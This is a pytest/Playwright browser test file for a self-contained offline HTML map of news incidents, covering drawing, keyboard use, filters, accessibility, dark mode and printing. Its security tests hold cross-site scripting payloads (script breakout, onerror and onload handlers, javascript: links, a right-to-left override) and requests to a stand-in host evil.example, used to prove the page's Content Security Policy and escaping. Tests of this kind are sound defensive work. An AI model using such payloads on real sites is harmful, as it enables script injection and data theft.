"""The file that stands alone, opened from disk: it asks for nothing, and does the whole job."""

from __future__ import annotations

import datetime as dt
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from geodata.maps import marks_from_tables
from geodata.maps.standalone import html_bytes
from geodata.models import STATUSES, Extraction
from geodata.pipeline import collect, extract_path
from geodata.tables.files import about_table
from geodata.tables.filters import Filters

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

    from geodata.tables import Tables

pytestmark = pytest.mark.browser

WAIT_MS = 30_000
MADE = dt.datetime(2026, 11, 5, 8, 30, tzinfo=dt.UTC)
EVIL = "</script><script>window.hit=1</script><img src=x onerror=window.hit=1> {{ 7*7 }} \u202exyz"
SERIOUS = {"serious", "critical"}
# Marks as the map has them: id -> how many articles, and the kinds and looks.
DRAWN = """() => Object.fromEntries(schauplatz.content.marks.map(
  (mark) => [mark.id, [mark.sources, mark.signs.map((sign) => sign.join(" ")).join(", ")]]))"""


@dataclass
class Opened:
    """A file in a browser without network, and what it tried to load or complained of."""

    page: Page
    asked: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


@contextmanager
def opened(
    browser: Browser, path: Path, *, ready: str = ".schauplatz-mark", **how: Any
) -> Iterator[Opened]:
    context = browser.new_context(**({"viewport": {"width": 1440, "height": 900}} | how))
    context.set_offline(True)
    page = context.new_page()
    found = Opened(page)
    page.on("request", lambda request: found.asked.append(request.url))
    page.on("pageerror", lambda error: found.errors.append(str(error)))
    page.on(
        "console", lambda said: found.errors.append(said.text) if said.type == "error" else None
    )
    page.goto(path.as_uri())
    page.wait_for_selector(ready, timeout=WAIT_MS)
    yield found
    context.close()


def read(path: Path | None) -> Tables:
    return collect(one for one in extract_path(path) if isinstance(one, Extraction)).tables


def write(tables: Tables, path: Path) -> Path:
    about = about_table("incidents", tables.incidents, tables, Filters(statuses=STATUSES), MADE)
    path.write_bytes(html_bytes(tables.incidents, tables.events, tables.articles, about))
    return path


@pytest.fixture(scope="module")
def samples() -> Tables:
    return read(None)


@pytest.fixture(scope="module")
def file(samples: Tables, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write(samples, tmp_path_factory.mktemp("standalone") / "karte.html")


def count_of(page: Page) -> int:
    return int(str(page.locator("#count").inner_text()).split()[0])


def shown_place(page: Page) -> str:
    return page.locator("#list-title").inner_text()


def test_the_file_draws_what_the_app_draws_and_asks_for_nothing(
    browser: Browser, samples: Tables, file: Path
) -> None:
    with opened(browser, file) as found:
        drawn = found.page.evaluate(DRAWN)
        expected = marks_from_tables(samples.incidents, samples.events).marks
        assert drawn == {
            mark.mark_id: [
                mark.sources,
                ", ".join(f"{one.kind} {one.look}" for one in mark.tallies),
            ]
            for mark in expected
        }
        assert count_of(found.page) == len(samples.incidents)
        flows = found.page.evaluate("schauplatz.content.flows.map((flow) => flow.tip)")
        assert len(flows) == len(marks_from_tables(samples.incidents, samples.events).flows)
        assert [url for url in found.asked if not url.startswith("data:")] == [file.as_uri()]
        assert not found.errors


def test_even_a_hole_could_neither_run_nor_send_anything(browser: Browser, file: Path) -> None:
    with opened(browser, file) as found:
        found.page.evaluate(
            """() => {
              const bad = document.createElement("script");
              bad.textContent = "window.hit = 1";
              document.body.append(bad);
              new Image().src = "https://evil.example/x.png";
              return fetch("https://evil.example/").catch(() => null);
            }"""
        )
        assert found.page.evaluate("window.hit") is None
        assert len(found.errors) >= 3, "the browser's policy refused each"
        assert all("Content Security Policy" in error for error in found.errors), found.errors


def test_the_keyboard_alone_reads_a_place_and_chooses(browser: Browser, file: Path) -> None:
    with opened(browser, file) as found:
        page = found.page
        page.locator("#map [tabindex='0']").focus()
        page.keyboard.press("ArrowRight")
        page.keyboard.press("Enter")
        expect(page.locator("#close")).to_be_visible()
        place = shown_place(page)
        assert place != "In order of time"
        assert set(page.locator("#list h3").all_inner_texts()) == {place}
        assert page.locator("#list blockquote").count() >= 1
        assert page.evaluate("document.activeElement.id") == "list-title"
        page.keyboard.press("Escape")
        expect(page.locator("#close")).to_be_hidden()
        assert page.evaluate("document.activeElement.classList.contains('schauplatz-mark')")
        assert not found.errors


def test_kinds_days_and_words_choose_for_list_and_map_together(
    browser: Browser, file: Path
) -> None:
    with opened(browser, file) as found:
        page = found.page
        everything = count_of(page)
        page.locator("#choices [data-kind=protest]").focus()
        page.keyboard.press("Space")
        expect(page.locator("#list .protest.card")).to_have_count(0)
        assert count_of(page) < everything
        kinds = page.evaluate(
            "schauplatz.content.marks.flatMap((m) => m.signs.map(([kind]) => kind))"
        )
        assert "protest" not in kinds
        page.get_by_label("From").fill("2022-01-05")
        page.get_by_label("To").fill("2022-01-06")
        page.get_by_label("Search").fill("alma")
        page.wait_for_timeout(400)
        texts = page.locator("#list > li").all_inner_texts()
        assert texts
        assert all("alma" in text.lower() or "алма" in text.lower() for text in texts)
        page.get_by_role("button", name="Show everything").click()
        expect(page.locator("#count")).to_have_text(f"{everything} events")
        assert not found.errors


def test_a_card_shows_its_place_on_the_map(browser: Browser, file: Path) -> None:
    with opened(browser, file) as found:
        page = found.page
        card = page.locator("#list > li:has(.show)").nth(6)
        before = count_of(page)
        card.locator(".show").click()
        name = card.locator("h3").inner_text()
        selected = page.evaluate(
            "schauplatz.homes.get(schauplatz.selectedId)?.label"
            " ?? schauplatz.content.areas.find((a) => a.id === schauplatz.selectedId).label"
        )
        assert selected == name
        assert count_of(page) == before, "the list stays"
        violations = Axe().run(page).response["violations"]
        assert not [one["id"] for one in violations if one["impact"] in SERIOUS], violations


def test_it_reads_on_a_phone_in_the_dark_and_on_paper(browser: Browser, file: Path) -> None:
    phone: dict[str, Any] = {
        "viewport": {"width": 390, "height": 844},
        "color_scheme": "dark",
        "has_touch": True,
    }
    with opened(browser, file, **phone) as found:
        page = found.page
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(20, 23, 27)"
        assert not [
            one["id"] for one in Axe().run(page).response["violations"] if one["impact"] in SERIOUS
        ]
        page.locator(".schauplatz-mark").first.dispatch_event("click")
        expect(page.locator("#jump")).to_be_visible()
        page.locator("#close").click()
        light = page.evaluate(
            """() => {
              dispatchEvent(new Event("beforeprint"));
              const count = (selector) => document.querySelectorAll(selector).length;
              const land = schauplatz.settings.colours.land;
              const seen = [land, count("#map img.printed"), count("#list > li")];
              dispatchEvent(new Event("afterprint"));
              return seen;
            }"""
        )
        assert light[0] == "#F3F1EB"
        assert light[1] >= 3
        assert light[2] == count_of(page)
        assert page.evaluate("schauplatz.settings.colours.land") == "#262B32"
        assert page.pdf(format="A4")[:5] == b"%PDF-"
        assert not found.errors


def test_hostile_articles_run_nothing_and_everyone_without_scripts_reads_the_list(
    browser: Browser, tmp_path: Path
) -> None:
    folder = tmp_path / "articles"
    folder.mkdir()
    text = (
        f"Schüsse in Almaty {EVIL}\n\nIn Almaty sind am Mittwoch bei Schüssen zwölf Menschen "
        f"getötet worden {EVIL}. Russland hat am Donnerstag 300 Soldaten nach Almaty geschickt.\n"
    )
    (folder / "eins.txt").write_text(text, encoding="utf-8")
    (folder / "articles.csv").write_text(
        "file,publisher,url,published\n"
        'eins.txt,"<b>Bote</b> <svg onload=hit=1>",javascript:hit=1,2022-01-06\n',
        encoding="utf-8",
    )
    path = write(read(folder), tmp_path / "hostile.html")
    with opened(browser, path) as found:
        page = found.page
        page.locator(".schauplatz-mark").first.dispatch_event("click")
        expect(page.locator("#list blockquote").first).to_contain_text(
            "<script>window.hit=1</script>"
        )
        expect(page.locator("figcaption").first).to_contain_text("<b>Bote</b>")
        assert page.evaluate("window.hit") is None
        assert page.locator("#list script, #list img, #list svg[onload]").count() == 0
        assert page.locator("a[href^='javascript']").count() == 0
        assert not found.errors
    with opened(browser, path, ready="#list > li", java_script_enabled=False) as found:
        expect(found.page.locator("#list blockquote").first).to_be_visible()
        expect(found.page.locator("noscript .note")).to_be_visible()
        expect(found.page.locator("#stage")).to_be_hidden()
